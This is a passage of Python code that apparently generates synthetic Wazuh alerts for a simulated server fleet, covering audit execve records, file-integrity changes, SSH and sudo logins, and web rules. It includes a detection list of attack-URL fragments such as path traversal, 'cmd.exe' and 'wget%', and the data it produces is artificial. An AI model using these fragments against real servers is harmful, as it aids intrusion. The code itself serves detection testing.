            for adm in ADMINS:
                uid = _ADMIN_UID[adm]
                self.users[adm] = (uid, uid, f"/home/{adm}")
                self.groups[uid] = adm
        if spec.role == "web":
            self.users["deploy"] = (1500, 1500, "/home/deploy")
            self.groups[1500] = "deploy"
        if spec.role == "db":
            self.users["postgres"] = (113, 118, "/var/lib/postgresql")
            self.groups[118] = "postgres"
        if spec.role == "mail":
            self.users["postfix"] = (114, 119, "/var/spool/postfix")
            self.users["dovecot"] = (115, 120, "/usr/lib/dovecot")
            self.groups.update({119: "postfix", 120: "dovecot", 121: "postdrop"})
        if spec.role == "ci":
            self.users["gitlab-runner"] = (999, 999, "/home/gitlab-runner")
            self.groups.update({999: "gitlab-runner", 998: "docker"})
        if spec.role == "bastion":
            self.users["svc-backup"] = (1600, 1600, "/home/svc-backup")
            self.groups[1600] = "svc-backup"
        self.uid_names = {v[0]: k for k, v in self.users.items()}
        if spec.role == "web":
            fim = _FIM_WEB
        elif spec.role == "ci":
            fim = _FIM_CI
        elif spec.role == "workstation":
            fim = _FIM_WS
        else:
            fim = _FIM_SERVER
        self.fim = tuple(sorted(fim, key=lambda pm: -len(pm[0])))
        self.agent_ip = None if self.is_manager else self.ip

    # -- identities
    def add_user(self, name: str, uid: int, gid: int, home: str) -> None:
        self.users[name] = (uid, gid, home)
        if uid not in self.uid_names:
            self.uid_names[uid] = name
        self.groups.setdefault(gid, name)

    def uname(self, uid: Optional[int]) -> str:
        if uid is None:
            return "unset"
        return self.uid_names.get(uid) or f"unknown({uid})"

    def gname(self, gid: int) -> str:
        return self.groups.get(gid) or f"unknown({gid})"

    def uid(self, user: str) -> int:
        return self.users[user][0] if user in self.users else 1000 + _stable_int(user, 1000)

    def gid(self, user: str) -> int:
        return self.users[user][1] if user in self.users else self.uid(user)

    def home(self, user: str) -> str:
        return self.users[user][2] if user in self.users else f"/home/{user}"

    # -- counters (planning time)
    def next_pid(self, r: random.Random) -> int:
        self.pid += 1 + int(r.expovariate(1 / 6.0))
        if self.pid > 4_194_000:
            self.pid = 1200
        return self.pid

    def next_ses(self) -> int:
        self.ses += 1
        return self.ses

    def inode(self, path: str) -> int:
        ino = self.inodes.get(path)
        if ino is None:
            ino = self.inode_base + _stable_int(self.name + path, 3_000_000)
            self.inodes[path] = ino
        return ino

    # -- what sees what
    def audited(self, euid: int, auid: Optional[int]) -> bool:
        """The audit rules of this host: every execve on CI runners; elsewhere commands run as
        root (euid 0), by logged-in people (auid >= 1000) and, on web servers, by www-data."""
        if self.audit_all or euid == 0:
            return True
        if auid is not None and 1000 <= auid < _UNSET:
            return True
        return self.role == "web" and euid == 33

    def fim_mode(self, path: str) -> Optional[str]:
        for prefix, mode in self.fim:
            if path == prefix or path.startswith(prefix + "/"):
                return mode
        return None


class _Actor:
    """Who runs commands: the process credentials and where the shell sits."""

    __slots__ = ("h", "user", "uid", "gid", "euid", "egid", "auid", "ses", "tty", "cwd", "pid", "exe", "ppid")

    def __init__(self, h: _Host, user: str, *, auid: Optional[int] = None, ses: Optional[int] = None,
                 tty: str = "(none)", cwd: Optional[str] = None, pid: int = 1, exe: str = "/usr/bin/bash",
                 euser: Optional[str] = None, ppid: int = 1) -> None:
        self.h = h
        self.user = user
        self.uid = h.uid(user)
        self.gid = h.gid(user)
        eu = euser or user
        self.euid = h.uid(eu)
        self.egid = h.gid(eu)
        self.auid = auid
        self.ses = ses
        self.tty = tty
        self.cwd = cwd or h.home(user)
        self.pid = pid
        self.exe = exe
        self.ppid = ppid


class _Cur:
    """A cursor in time for scripting one session: ``c.t`` in epoch ms, ``c.r`` its RNG."""

    __slots__ = ("t", "r")

    def __init__(self, t: int, r: random.Random) -> None:
        self.t = int(t)
        self.r = r

    def adv(self, lo: float, hi: float) -> int:
        self.t += int(self.r.uniform(lo, hi) * 1000) + 1
        return self.t


# Executables: argv[0] -> (exe as audit reports it, file mode of the binary).
_EXE = {
    "sh": "/usr/bin/dash", "bash": "/usr/bin/bash", "-bash": "/usr/bin/bash", "python3": "/usr/bin/python3.8",
    "python": "/usr/bin/python3.8", "nc": "/usr/bin/nc.openbsd", "vim": "/usr/bin/vim.basic",
    "vi": "/usr/bin/vim.basic", "gcc": "/usr/bin/x86_64-linux-gnu-gcc-9", "cc": "/usr/bin/x86_64-linux-gnu-gcc-9",
    "as": "/usr/bin/x86_64-linux-gnu-as", "ld": "/usr/bin/x86_64-linux-gnu-ld.bfd", "ar": "/usr/bin/x86_64-linux-gnu-ar",
    "php": "/usr/bin/php7.4", "php7.4": "/usr/bin/php7.4", "convert": "/usr/bin/convert-im6.q16",
    "sendmail": "/usr/sbin/sendmail", "useradd": "/usr/sbin/useradd", "usermod": "/usr/sbin/usermod",
    "adduser": "/usr/bin/perl", "chpasswd": "/usr/sbin/chpasswd", "logrotate": "/usr/sbin/logrotate",
    "nginx": "/usr/sbin/nginx", "apache2ctl": "/usr/bin/dash", "sshd": "/usr/sbin/sshd", "runuser": "/usr/sbin/runuser",
    "pg_dump": "/usr/lib/postgresql/12/bin/pg_dump", "psql": "/usr/lib/postgresql/12/bin/psql",
    "vacuumdb": "/usr/lib/postgresql/12/bin/vacuumdb", "postqueue": "/usr/sbin/postqueue",
    "postsuper": "/usr/sbin/postsuper", "mailq": "/usr/sbin/sendmail", "ldconfig": "/usr/sbin/ldconfig.real",
    "update-initramfs": "/usr/bin/dash", "unattended-upgr": "/usr/bin/python3.8", "node": "/usr/bin/node",
    "docker": "/usr/bin/docker", "go": "/usr/local/go/bin/go", "gitlab-runner": "/usr/bin/gitlab-runner",
    "ansible-playbook": "/usr/bin/python3.8", "iptables": "/usr/sbin/iptables-legacy", "ss": "/usr/bin/ss",
    "kubectl": "/usr/local/bin/kubectl", "code": "/usr/share/code/code", "make": "/usr/bin/make",
    "fstrim": "/usr/sbin/fstrim", "e2scrub_all": "/usr/bin/bash", "tmpreaper": "/usr/sbin/tmpreaper",
    "certbot": "/usr/bin/python3.8", "sa-update": "/usr/bin/perl", "apt-get": "/usr/bin/apt-get", "apt": "/usr/bin/apt",
    "dpkg": "/usr/bin/dpkg", "systemctl": "/usr/bin/systemctl", "journalctl": "/usr/bin/journalctl",
    "useradd.real": "/usr/sbin/useradd", "crontab": "/usr/bin/crontab", "passwd": "/usr/bin/passwd",
    "su": "/usr/bin/su", "sudo": "/usr/bin/sudo", "wazuh-control": "/usr/bin/bash",
    "agent_control": "/var/ossec/bin/agent_control", "nohup": "/usr/bin/nohup", "ssh": "/usr/bin/ssh",
    "rsync": "/usr/bin/rsync", "pip": "/usr/bin/python3.8", "composer": "/usr/bin/php7.4",
}
# Interpreted scripts by path: audit reports the interpreter as exe and the script in PATH.
_SCRIPTS = {
    "/usr/lib/sysstat/debian-sa1": "/usr/bin/dash", "/usr/lib/sysstat/sa1": "/usr/bin/dash",
    "/usr/lib/apt/apt.systemd.daily": "/usr/bin/dash", "/usr/bin/unattended-upgrade": "/usr/bin/python3.8",
    "/usr/local/bin/pg-backup.sh": "/usr/bin/bash", "/usr/sbin/update-initramfs": "/usr/bin/dash",
    "/var/ossec/bin/wazuh-control": "/usr/bin/bash", "/usr/bin/certbot": "/usr/bin/python3.8",
    "/usr/sbin/adduser": "/usr/bin/perl", "/usr/bin/ansible-playbook": "/usr/bin/python3.8",
    "/usr/sbin/apache2ctl": "/usr/bin/dash", "/usr/sbin/e2scrub_all": "/usr/bin/bash",
    "/usr/local/bin/composer": "/usr/bin/php7.4", "/usr/bin/npm": "/usr/bin/node",
    "/usr/lib/update-notifier/update-motd-updates-available": "/usr/bin/dash",
}


def _resolve_exe(argv0: str, cwd: str) -> Tuple[str, str, str, str]:
    """(exe, comm, PATH item 0 name, mode) for a command as the kernel audit sees it."""
    base = argv0.rsplit("/", 1)[-1]
    comm = base[:15]
    if "/" in argv0:
        path = argv0 if argv0.startswith("/") else (cwd.rstrip("/") + "/" + argv0[2:] if argv0.startswith("./")
                                                      else cwd.rstrip("/") + "/" + argv0)
        if path.startswith(("/bin/", "/sbin/", "/usr/bin/", "/usr/sbin/")) and path.count("/") <= 3:
            exe = _EXE.get(base) or ("/usr/sbin/" if "/sbin/" in path else "/usr/bin/") + base
        else:
            exe = _SCRIPTS.get(path, path)
        return exe, comm, argv0, "0100755"
    exe = _EXE.get(argv0) or ("/usr/bin/" + argv0)
    return exe, comm, (exe if argv0 not in ("-bash",) else "/usr/bin/bash"), "0100755"


_ARGV_CACHE: Dict[tuple, tuple] = {}
_SUID_BINARIES = {"/usr/bin/sudo": "0104755", "/usr/bin/su": "0104755", "/usr/bin/passwd": "0104755",
                  "/usr/bin/crontab": "0102755", "/usr/bin/chsh": "0104755", "/usr/bin/mount": "0104755"}
_WEB_IGNORED_EXT = (".jpg", ".gif", "favicon.ico", ".png", "robots.txt", ".css", ".js", ".jpeg")
_WEB_ATTACK_URL = ("%027", "%00", "%01", "%7f", "%2e%2e", "%0a", "%0d", "../..", "..\\..", "echo;", "cmd.exe",
                   "root.exe", "_mem_bin", "msadc", "/winnt/", "/boot.ini", "/x90/", "default.ida", "/sumthin",
                   "nsiislog.dll", "chmod%", "wget%", "cd%20", "exec%20", "../..//", "%5c../%5c", "././././",
                   "2e%2e%5c%2e")
_CRAWLERS = ("Googlebot", "bingbot", "Yahoo! Slurp", "msnbot")
_BIN_DIRS = ("/usr/bin/", "/usr/sbin/", "/bin/", "/sbin/", "/usr/local/bin/", "/usr/local/sbin/")
_CHANGED_NAMES = ((S_SIZE, "size"), (S_PERM, "permission"), (S_UID, "uid"), (S_UNAME, "user_name"),
                  (S_GID, "gid"), (S_GNAME, "group_name"), (S_MTIME, "mtime"), (S_INODE, "inode"),
                  (S_MD5, "md5"), (S_SHA1, "sha1"), (S_SHA256, "sha256"))
_DEC_SSHD = {"parent": "sshd", "name": "sshd"}
_DEC_PAM = {"parent": "pam", "name": "pam"}


def _web_line(t: int, ip: str, method: str, url: str, status: int, size: int, ref: str, ua: str) -> str:
    return f'{ip} - - [{_web_ts(t // 1000)}] "{method} {url} HTTP/1.1" {status} {size} "{ref}" "{ua}"'


def _web_rule(method: str, url: str, status: int, ua: str) -> Optional[str]:
    """The rule a web access line ends in (None when the ruleset keeps it at level 0)."""
    low = url.lower()
    if 400 <= status < 500:
        if status == 499:
            return None
        if "?" not in url and low.endswith(_WEB_IGNORED_EXT):
            return None
        if any(c in ua for c in _CRAWLERS):
            return None
        return "31101"
    if status == 500:
        return "31122"
    if status in (502, 504):
        return "31120"
    if 200 <= status < 300 and any(p in low for p in _WEB_ATTACK_URL):
        return "31106"
    return None


def _frequency(items: List[Tuple[int, str]], freq: int, timeframe_ms: int, ignore_ms: int = 0) -> List[Optional[str]]:
    """analysisd's frequency correlation for one source: for each child event (time, log line),
    the ``previous_output`` when the composite rule fires on it, else None. Events that made a
    composite fire are consumed; ``ignore`` mutes the rule for a while after it fired."""
    out: List[Optional[str]] = []
    window: List[Tuple[int, str]] = []
    mute_until = -1
    for t, line in items:
        window = [w for w in window if t - w[0] <= timeframe_ms]
        if len(window) + 1 >= freq and t >= mute_until:
            prev = [w[1] for w in reversed(window[-(freq - 1):])]
            out.append("\n".join(prev))
            window = []
            mute_until = t + ignore_ms
        else:
            window.append((t, line))
            out.append(None)
    return out


class _World:
    """Holds the fleet, plans activity into time-stamped events and turns events into alerts.

    Planning (what happens when, who does it) runs ahead, day by day; the alert for an event is
    built when it is emitted, in time order, because ids, ``firedtimes``, first-time-seen rules
    and file states depend on what came before.
    """

    def __init__(self, cfg: FleetConfig) -> None:
        cfg.check()
        self.cfg = cfg
        self.seed = cfg.seed
        self.scale = float(cfg.scale)
        self.periodic = min(1.0, self.scale)
        self.start = cfg.resolved_start()
        self.days = int(cfg.days)
        self.t0 = int(datetime(self.start.year, self.start.month, self.start.day, tzinfo=timezone.utc).timestamp()) * 1000
        self.t_end = self.t0 + self.days * DAY_MS
        self.hosts = [_Host(s, self) for s in cfg.resolved_hosts()]
        self.by_role: Dict[str, List[_Host]] = {}
        for h in self.hosts:
            self.by_role.setdefault(h.role, []).append(h)
        mgr = self.by_role.get("manager")
        self.manager_name = mgr[0].name if mgr else cfg.manager_name
        self.attack_window = min(self.days, max(0, int(cfg.attack_days)))
        wr = random.Random(f"mimizuku-synth:{self.seed}:world")
        self.botnet = [_public_ip(wr) for _ in range(600)]
        self.home_ip = {u: _public_ip(wr) for u in MAIL_USERS + (NEW_ADMIN,)}
        self.mobile_ip = {u: _public_ip(wr) for u in MAIL_USERS}
        self.office_ip = {u: f"10.20.10.{31 + i}" for i, u in enumerate(MAIL_USERS + (NEW_ADMIN,))}
        self.vpn_ip = {u: f"10.20.200.{11 + i}" for i, u in enumerate(MAIL_USERS + (NEW_ADMIN,))}
        self.keyfp = {u: self._fingerprint(wr) for u in ADMINS + (NEW_ADMIN, "deploy", "svc-backup", "frank", "grace")}
        self.runner_token = {h.name: _rand_token(wr, 8, "ABCDEFGHJKLMNPQRSTUVWXYZabcdefghijkmnopqrstuvwxyz0123456789")
                             for h in self.hosts}
        # The new admin joins on the first attack day (so a first login and a new account are in
        # the test window too), or mid-period when there is no attack window.
        self.onboard_day = (self.days - self.attack_window) if self.attack_window else self.days // 2
        self.onboard_day = min(max(self.onboard_day, 0), self.days - 1)
        # emission state
        self.fired: Dict[str, int] = {}
        self.offset = 0
        self.offset_day = -1
        self._ts_day = -1
        self._ts_prefix = ""
        self.fts_login = set()
        self.fts_sudo = set()
        for h in self.hosts:
            if h.role == "workstation":
                self.fts_login.add((h.owner, h.name))
                self.fts_sudo.add((h.owner, h.name))
            else:
                for adm in ADMINS:
                    self.fts_login.add((adm, h.name))
                    self.fts_sudo.add((adm, h.name))
            if h.role == "web":
                self.fts_login.add(("deploy", h.name))
                self.fts_sudo.add(("deploy", h.name))
            if h.role == "bastion":
                self.fts_login.add(("svc-backup", h.name))
        # planning state
        self._seq = 0
        self.buckets: Dict[int, list] = {}
        self.sink: list = []
        self.episode_mode = False
        self.last_run: tuple = (None, 0, 0)
        self.releases: Dict[str, List[str]] = {}
        self.pkg_version: Dict[Tuple[str, str], str] = {}

    @staticmethod
    def _fingerprint(r: random.Random) -> str:
        alphabet = "ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789+/"
        return "".join(r.choice(alphabet) for _ in range(43))

    # ---------------------------------------------------------------- scheduling
    def at(self, t: int, fn: Callable, *args: Any) -> None:
        self.sink.append((int(t), fn, args))

    def _bucket(self, events: Iterable[Tuple[int, Callable, tuple]], label: Optional[Tuple[str, str]]) -> None:
        for t, fn, args in events:
            if not (self.t0 <= t < self.t_end):
                continue
            self._seq += 1
            self.buckets.setdefault((t - self.t0) // DAY_MS, []).append((t, self._seq, fn, args, label))

    # ---------------------------------------------------------------- the alert itself
    def _ts(self, sec: int, ms: int) -> str:
        day = sec // 86400
        if day != self._ts_day:
            self._ts_day = day
            self._ts_prefix = time.strftime("%Y-%m-%dT", time.gmtime(sec))
        sod = sec - day * 86400
        return f"{self._ts_prefix}{sod // 3600:02d}:{sod // 60 % 60:02d}:{sod % 60:02d}.{ms:03d}+0000"

    def _alert(self, t: int, h: _Host, rid: str, *, decoder: dict, location: str, full_log: Optional[str] = None,
               data: Optional[dict] = None, predecoder: Optional[dict] = None, syscheck: Optional[dict] = None,
               previous_output: Optional[str] = None, description: Optional[str] = None) -> Dict[str, Any]:
        r = RULES[rid]
        n = self.fired.get(rid, 0) + 1
        self.fired[rid] = n
        rule: Dict[str, Any] = {"level": r.level, "description": description or r.description, "id": rid}
        if r.mitre is not None:
            rule["mitre"] = {"id": list(r.mitre[0]), "tactic": list(r.mitre[1]), "technique": list(r.mitre[2])}
        if r.frequency:
            rule["frequency"] = r.frequency
        rule["firedtimes"] = n
        rule["mail"] = r.mail
        rule["groups"] = list(r.groups)
        for k, v in r.compliance:
            rule[k] = list(v)
        sec, ms = divmod(t, 1000)
        day = (t - self.t0) // DAY_MS
        if day != self.offset_day:
            self.offset_day = day
            self.offset = 0
        aid = f"{sec}.{self.offset}"
        self.offset += 236 + len(full_log or "") + len(rule["description"]) + len(location) + (len(previous_output)
                                                                                              if previous_output else 0)
        if h.is_manager:
            agent = {"id": "000", "name": h.name}
        else:
            agent = {"id": h.agent_id, "name": h.name, "ip": h.ip}
        alert: Dict[str, Any] = {"timestamp": self._ts(sec, ms), "rule": rule, "agent": agent,
                                 "manager": {"name": self.manager_name}, "id": aid}
        if previous_output:
            alert["previous_output"] = previous_output
        if full_log is not None:
            alert["full_log"] = full_log
        if syscheck is not None:
            alert["syscheck"] = syscheck
        if predecoder is not None:
            alert["predecoder"] = predecoder
        alert["decoder"] = decoder
        if data:
            alert["data"] = data
        alert["location"] = location
        return alert

    # ---------------------------------------------------------------- builders (emission time)
    @staticmethod
    def syslog_line(t: int, h: _Host, prog: str, pid: Optional[int], msg: str) -> str:
        head = f"{prog}[{pid}]" if pid else prog
        return f"{_syslog_ts(t // 1000)} {h.name} {head}: {msg}"

    def _b_syslog(self, t: int, h: _Host, rid: str, prog: str, pid: Optional[int], msg: str, decoder: dict,
                  data: Optional[dict], location: str = "/var/log/auth.log", prev: Optional[str] = None) -> dict:
        sts = _syslog_ts(t // 1000)
        head = f"{prog}[{pid}]" if pid else prog
        return self._alert(t, h, rid, full_log=f"{sts} {h.name} {head}: {msg}",
                           predecoder={"program_name": prog, "timestamp": sts, "hostname": h.name},
                           decoder=dict(decoder), data=data, location=location, previous_output=prev)

    def _b_ssh_accept(self, t: int, h: _Host, user: str, ip: str, port: int, pid: int, method: str, fp: str) -> dict:
        key = (user, h.name)
        if key in self.fts_login:
            rid = "5715"
        else:
            self.fts_login.add(key)
            rid = "10100"
        if method == "publickey":
            msg = f"Accepted publickey for {user} from {ip} port {port} ssh2: ED25519 SHA256:{fp}"
        else:
            msg = f"Accepted password for {user} from {ip} port {port} ssh2"
        return self._b_syslog(t, h, rid, "sshd", pid, msg, _DEC_SSHD,
                              {"srcip": ip, "srcport": str(port), "dstuser": user})

    def _b_sudo(self, t: int, h: _Host, user: str, tty: str, pwd: str, target: str, command: str) -> dict:
        if target != "root":
            rid = "5407"
        elif (user, h.name) in self.fts_sudo:
            rid = "5402"
        else:
            rid = "5403"
        self.fts_sudo.add((user, h.name))
        msg = f"{user:>8} : TTY={tty} ; PWD={pwd} ; USER={target} ; COMMAND={command}"
        data = {"srcuser": user, "dstuser": target, "tty": tty, "pwd": pwd, "command": command}
        return self._b_syslog(t, h, rid, "sudo", None, msg,
                              {"parent": "sudo", "name": "sudo",
                               "ftscomment": "First time user executed the sudo command"}, data)

    def _b_cmd(self, t: int, h: _Host, argv: Tuple[str, ...], path: Optional[str], cwd: str, pid: int, ppid: int,
               uid: int, gid: int, euid: int, egid: int, auid: Optional[int], ses: Optional[int], tty: str) -> dict:
        if path:
            exe = _SCRIPTS.get(path, path)
            comm = path.rsplit("/", 1)[-1][:15]
            fname = path
        else:
            exe, comm, fname, _ = _resolve_exe(argv[0], cwd)
        st = h.files.get(fname) or h.files.get(exe)
        if st is not None and "s" in st[S_PERM]:
            mode = "0104755"
        else:
            mode = _SUID_BINARIES.get(exe, "0100755")
        h.serial += 1 + (t % 5)
        serial = h.serial
        sec, ms = divmod(t - 2 - (t % 37), 1000)
        stamp = f"{sec}.{ms:03d}:{serial}"
        auid_s = "4294967295" if auid is None else str(auid)
        ses_s = "4294967295" if ses is None else str(ses)
        un = h.uname(uid)
        eun = h.uname(euid)
        gn = h.gname(gid)
        egn = h.gname(egid)
        an = "unset" if auid is None else h.uname(auid)
        got = _ARGV_CACHE.get(argv)
        if got is None:
            exec_items: List[Tuple[str, str]] = [("argc", str(len(argv)))]
            parts = []
            for i, arg in enumerate(argv):
                if arg and not _HEX_NEEDED.search(arg):
                    parts.append(f'a{i}="{arg}"')
                    if i < 8:
                        exec_items.append((f"a{i}", arg))
                else:
                    parts.append(f"a{i}={arg.encode('utf-8', 'surrogateescape').hex().upper()}")
            got = (tuple(exec_items), " ".join(parts), _proctitle(argv))
            if len(_ARGV_CACHE) > 20000:
                _ARGV_CACHE.clear()
            _ARGV_CACHE[argv] = got
        execve = dict(got[0])
        exec_log, proctitle = got[1], got[2]
        cwd_log = f'"{cwd}"' if not _HEX_NEEDED.search(cwd) else cwd.encode("utf-8", "surrogateescape").hex().upper()
        ino = h.inode(fname if fname.startswith("/") else cwd + "/" + fname)
        ptr = (t * 2654435761 + pid) & 0xFFFFFFFFF
        item1 = exe if exe != fname and path else "/lib64/ld-linux-x86-64.so.2"
        full = (f"type=SYSCALL msg=audit({stamp}): arch=c000003e syscall=59 success=yes exit=0 "
                f"a0={0x55d000000000 + ptr:x} a1={0x55d000100000 + ptr:x} a2={0x55d000200000 + ptr:x} a3=8 items=2 "
                f"ppid={ppid} pid={pid} auid={auid_s} uid={uid} gid={gid} euid={euid} suid={euid} fsuid={euid} "
                f"egid={egid} sgid={egid} fsgid={egid} tty={tty} ses={ses_s} comm=\"{comm}\" exe=\"{exe}\" "
                f"subj=unconfined key=\"audit-wazuh-c\"\x1dARCH=x86_64 SYSCALL=execve AUID=\"{an}\" UID=\"{un}\" "
                f"GID=\"{gn}\" EUID=\"{eun}\" SUID=\"{eun}\" FSUID=\"{eun}\" EGID=\"{egn}\" SGID=\"{egn}\" "
                f"FSGID=\"{egn}\" type=EXECVE msg=audit({stamp}): argc={len(argv)} {exec_log} "
                f"type=CWD msg=audit({stamp}): cwd={cwd_log} type=PATH msg=audit({stamp}): item=0 name=\"{fname}\" "
                f"inode={ino} dev=fd:00 mode={mode} ouid=0 ogid=0 rdev=00:00 nametype=NORMAL cap_fp=0 cap_fi=0 "
                f"cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\" type=PATH msg=audit({stamp}): "
                f"item=1 name=\"{item1}\" inode={h.inode(item1)} dev=fd:00 mode=0100755 ouid=0 ogid=0 rdev=00:00 "
                f"nametype=NORMAL cap_fp=0 cap_fi=0 cap_fe=0 cap_fver=0 cap_frootid=0\x1dOUID=\"root\" OGID=\"root\" "
                f"type=PROCTITLE msg=audit({stamp}): proctitle={proctitle}")
        audit = {"type": "SYSCALL", "id": str(serial), "arch": "c000003e", "syscall": "59", "success": "yes",
                 "exit": "0", "ppid": str(ppid), "pid": str(pid), "auid": auid_s, "uid": str(uid), "gid": str(gid),
                 "euid": str(euid), "suid": str(euid), "fsuid": str(euid), "egid": str(egid), "sgid": str(egid),
                 "fsgid": str(egid), "tty": tty, "session": ses_s, "command": comm, "exe": exe,
                 "key": "audit-wazuh-c", "execve": execve, "cwd": cwd,
                 "file": {"name": fname, "inode": str(ino), "mode": mode}}
        return self._alert(t, h, "80792", full_log=full, decoder={"parent": "auditd", "name": "auditd"},
                           data={"audit": audit}, location="/var/log/audit/audit.log",
                           description=f"Audit: Command: {exe}.")

    # -- file integrity
    def _initial_state(self, h: _Host, path: str) -> list:
        key = h.name + "|" + path
        dist = path.startswith(_BIN_DIRS) or path.startswith(("/usr/lib/", "/boot/"))
        owner, group = "root", "root"
        uid = gid = 0
        if dist:
            perm = "rw-r--r--" if (".so" in path or path.startswith("/boot/")) and "/bin/" not in path else "rwxr-xr-x"
            size = 18_000 + _stable_int(path, 2_500_000)
            content = "dist|" + path
        else:
            perm = "rw-r--r--"
            size = 60 + _stable_int(key, 9000)
            content = key
            parts = path.split("/")
            if path.startswith("/home/") and len(parts) > 2:
                owner = group = parts[2]
            elif path.startswith("/var/www/app/shared/"):
                owner = group = "www-data"
            elif path.startswith("/var/www/"):
                owner = group = "deploy"
            elif path.startswith("/var/spool/cron/crontabs/"):
                owner, group, perm = parts[-1], "crontab", "rw-------"
            if path in ("/etc/shadow", "/etc/gshadow", "/etc/shadow-", "/etc/gshadow-"):
                group, perm = "shadow", "rw-r-----"
            elif path == "/etc/sudoers" or path.startswith("/etc/sudoers.d/"):
                perm = "r--r-----"
            elif path.endswith(("/authorized_keys", "/.bash_history", "/.viminfo", "/.lesshst")):
                perm = "rw-------"
            uid = h.uid(owner) if owner in h.users else 1000 + _stable_int(owner, 999)
            gid = next((g for g, n in h.groups.items() if n == group), uid)
        md5, sha1, sha256 = _hashes(content)
        mtime = self.t0 // 1000 - 86400 * (20 + _stable_int(key + "m", 700)) - _stable_int(key + "s", 86400)
        return [size, perm, str(uid), str(gid), owner, group, mtime, h.inode(path), md5, sha1, sha256]

    def _b_fim(self, t: int, h: _Host, path: str, op: str, mode: str, who: Optional[tuple], spec: dict) -> dict:
        sec = t // 1000
        before: Optional[list] = None
        if op == "add":
            owner = spec.get("owner", "root")
            group = spec.get("group", owner)
            uid = h.uid(owner) if owner in h.users else 1000 + _stable_int(owner, 999)
            gid = next((g for g, n in h.groups.items() if n == group), uid)
            content = spec.get("key") or f"{h.name}|{path}|{t}"
            size = spec.get("size")
            if size is None:
                size = 40 + _stable_int(content, 12000)
            ino = h.inode(path) + (t // 1000) % 9973
            md5, sha1, sha256 = _hashes(content)
            after = [int(size), spec.get("perm", "rw-r--r--"), str(uid), str(gid), owner, group, sec, ino,
                     md5, sha1, sha256]
            h.files[path] = after
            rid, event, decoder = "554", "added", "syscheck_new_entry"
        elif op == "delete":
            after = h.files.pop(path, None) or self._initial_state(h, path)
            rid, event, decoder = "553", "deleted", "syscheck_deleted"
        else:
            before = h.files.get(path) or self._initial_state(h, path)
            after = list(before)
            if op == "modify":
                size = spec.get("size")
                if size is None:
                    size = max(0, before[S_SIZE] + spec.get("delta", _stable_int(f"{path}{t}", 420) - 140))
                after[S_SIZE] = int(size)
                after[S_MTIME] = sec
                content = spec.get("key") or f"{h.name}|{path}|{t}"
                after[S_MD5], after[S_SHA1], after[S_SHA256] = _hashes(content)
                if spec.get("new_inode"):
                    after[S_INODE] = before[S_INODE] + 1 + (t // 1000) % 7919
            elif op == "chmod":
                after[S_PERM] = spec["perm"]
            elif op == "chown":
                after[S_UNAME] = spec["owner"]
                after[S_UID] = str(h.uid(spec["owner"]))
                after[S_GNAME] = spec.get("group", spec["owner"])
                after[S_GID] = str(h.gid(spec.get("group", spec["owner"])))
            h.files[path] = after
            rid, event, decoder = "550", "modified", "syscheck_integrity_changed"
        sc: Dict[str, Any] = {"path": path, "mode": mode}
        changed: List[str] = []
        comments: List[str] = []
        if before is not None:
            for idx, name in _CHANGED_NAMES:
                if before[idx] != after[idx]:
                    changed.append(name)

        def pair(idx: int, bname: str, aname: str, as_int: bool = False) -> None:
            if before is not None and before[idx] != after[idx]:
                sc[bname] = before[idx] if as_int else str(before[idx])
            sc[aname] = after[idx] if as_int else str(after[idx])

        pair(S_SIZE, "size_before", "size_after")
        pair(S_PERM, "perm_before", "perm_after")
        pair(S_UID, "uid_before", "uid_after")
        pair(S_GID, "gid_before", "gid_after")
        pair(S_MD5, "md5_before", "md5_after")
        pair(S_SHA1, "sha1_before", "sha1_after")
        pair(S_SHA256, "sha256_before", "sha256_after")
        pair(S_UNAME, "uname_before", "uname_after")
        pair(S_GNAME, "gname_before", "gname_after")
        if before is not None and before[S_MTIME] != after[S_MTIME]:
            sc["mtime_before"] = _iso_local(before[S_MTIME])
        sc["mtime_after"] = _iso_local(after[S_MTIME])
        pair(S_INODE, "inode_before", "inode_after", as_int=True)
        diff = spec.get("diff")
        if diff and op == "modify" and path.startswith(_REPORT_CHANGES) and mode != "scheduled":
            sc["diff"] = diff
        if changed:
            sc["changed_attributes"] = changed
        sc["event"] = event
        if who is not None and mode == "whodata":
            uid, gid, euid, auid, pid, ppid, exe, pexe, cwd, pcwd = who
            audit: Dict[str, Any] = {
                "user": {"id": str(uid), "name": h.uname(uid)},
                "process": {"id": str(pid), "name": exe, "cwd": cwd, "parent_name": pexe, "parent_cwd": pcwd,
                            "ppid": str(ppid)},
                "group": {"id": str(gid), "name": h.gname(gid)},
            }
            if auid is not None:
                audit["login_user"] = {"id": str(auid), "name": h.uname(auid)}
            audit["effective_user"] = {"id": str(euid), "name": h.uname(euid)}
            sc["audit"] = audit
        if before is not None:
            b, a = before, after
            if b[S_SIZE] != a[S_SIZE]:
                comments.append(f"Size changed from '{b[S_SIZE]}' to '{a[S_SIZE]}'\n")
            if b[S_PERM] != a[S_PERM]:
                comments.append(f"Permissions changed from '{b[S_PERM]}' to '{a[S_PERM]}'\n")
            if b[S_UID] != a[S_UID]:
                comments.append(f"Ownership was '{b[S_UID]}', now it is '{a[S_UID]}'\n")
            if b[S_UNAME] != a[S_UNAME]:
                comments.append(f"User name was '{b[S_UNAME]}', now it is '{a[S_UNAME]}'\n")
            if b[S_GID] != a[S_GID]:
                comments.append(f"Group ownership was '{b[S_GID]}', now it is '{a[S_GID]}'\n")
            if b[S_GNAME] != a[S_GNAME]:
                comments.append(f"Group name was '{b[S_GNAME]}', now it is '{a[S_GNAME]}'\n")
            if b[S_MTIME] != a[S_MTIME]:
                comments.append(f"Old modification time was: '{b[S_MTIME]}', now it is '{a[S_MTIME]}'\n")
            if b[S_INODE] != a[S_INODE]:
                comments.append(f"Old inode was: '{b[S_INODE]}', now it is '{a[S_INODE]}'\n")
            if b[S_MD5] != a[S_MD5]:
                comments.append(f"Old md5sum was: '{b[S_MD5]}'\nNew md5sum is : '{a[S_MD5]}'\n")
                comments.append(f"Old sha1sum was: '{b[S_SHA1]}'\nNew sha1sum is : '{a[S_SHA1]}'\n")
                comments.append(f"Old sha256sum was: '{b[S_SHA256]}'\nNew sha256sum is : '{a[S_SHA256]}'\n")
        full = f"File '{path}' {event}\nMode: {mode}\n"
        if changed:
            full += f"Changed attributes: {','.join(changed)}\n" + "".join(comments)
        return self._alert(t, h, rid, full_log=full, syscheck=sc, decoder={"name": decoder}, location="syscheck")

    # -- other sources
    def _b_web(self, t: int, h: _Host, rid: str, line: str, data: dict, prev: Optional[str]) -> dict:
